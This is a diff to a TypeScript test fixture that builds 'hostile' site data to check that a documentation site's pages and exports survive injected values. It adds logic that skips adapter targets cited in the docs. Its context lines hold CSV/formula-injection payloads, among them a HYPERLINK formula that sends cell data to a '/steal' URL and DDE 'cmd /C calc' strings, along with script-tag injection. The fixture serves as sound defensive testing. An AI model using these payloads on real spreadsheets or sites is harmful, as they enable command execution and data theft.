@@ -8,12 +8,12 @@
  * - writeHostileData(base): a copy that still builds as a site (names stay unique, so every page has its own
  *   URL), written into a folder the caller owns: what the pages and exports of a built site must survive.
  */
-import { cpSync } from 'node:fs';
+import { cpSync, readdirSync, readFileSync } from 'node:fs';
 import path from 'node:path';
 import { loadSiteData } from '../../src/data/site';
 import type { SiteData } from '../../src/data/model';
 import { NETWORK_IDS } from '../../src/data/networks';
-import { DIRS, editJson, tempCopy } from './data';
+import { DIRS, editJson, ROOT, tempCopy } from './data';
 
 export const LONG_LABEL = `${'Long label, '.repeat(416)}end!!!!!`.slice(0, 5000);
 
@@ -74,7 +74,7 @@ export const HOSTILE_SYMBOLS: Readonly<Record<string, string>> = {
   CRV: '=HYPERLINK("http://127.0.0.1:9/steal?d="&A1,"Click for details")',
   LINK: "-2+3+cmd|' /C calc'!A0",
   UNI: "@SUM(1+1)*cmd|' /C calc'!A0",
-  BAL: '+1+1',
+  FRAX: '+1+1',
   LDO: '\t=1+1',
   APE: '\r=2+2',
   FXS: '<script id="hostile-script">alert("symbol")</script>',
@@ -90,7 +90,7 @@ export const HOSTILE_LABELS = [
 ] as const;
 
 /** The credit manager whose adapters get those labels, and one renamed. */
-export const LABELLED_MANAGER = 'Trade USDC Tier 3';
+export const LABELLED_MANAGER = 'Farm USDC';
 export const RENAMED_MANAGER = { from: 'crvUSD Tier 1', to: '<b id="hostile-b">=1+2</b> "crvUSD", Tier 1' };
 
 /** Copies the shared snapshot and data folders into `base` and makes them hostile; returns the two folders. */
@@ -108,9 +108,25 @@ export function writeHostileData(base: string): { snapshotDir: string; dataDir: 
     const labelled = managers.find((m: any) => m.name === LABELLED_MANAGER);
     const renamed = managers.find((m: any) => m.name === RENAMED_MANAGER.from);
     if (!labelled || !renamed) throw new Error('the shared mainnet snapshot no longer has the credit managers this fixture changes');
-    targets = Object.keys(labelled.contractsToAdapters).slice(0, HOSTILE_LABELS.length);
+    // Targets whose labels the docs cite (`target="…"`) keep them: the build refuses a citation of a label the data lacks.
+    const cited = citedTargetLabels();
+    targets = Object.keys(labelled.contractsToAdapters)
+      .filter((t) => !cited.has(j.contractLabels[t.toLowerCase()]))
+      .slice(0, HOSTILE_LABELS.length);
+    if (targets.length < HOSTILE_LABELS.length) throw new Error(`${LABELLED_MANAGER} has too few adapters whose target the docs do not cite`);
     targets.forEach((t, i) => (j.contractLabels[t.toLowerCase()] = HOSTILE_LABELS[i]));
     renamed.name = RENAMED_MANAGER.to;
   });
   return { snapshotDir, dataDir, targets };
+}
+
+/** Target labels the docs cite in `<LiveParam … target="A+B" />`. */
+function citedTargetLabels(): Set<string> {
+  const docs = path.join(ROOT, 'docs');
+  const cited = new Set<string>();
+  for (const file of readdirSync(docs, { recursive: true, encoding: 'utf8' })) {
+    if (!/\.mdx?$/.test(file)) continue;
+    for (const m of readFileSync(path.join(docs, file), 'utf8').matchAll(/\btarget="([^"]+)"/g)) for (const label of m[1]!.split('+')) cited.add(label);
+  }
+  return cited;
 }
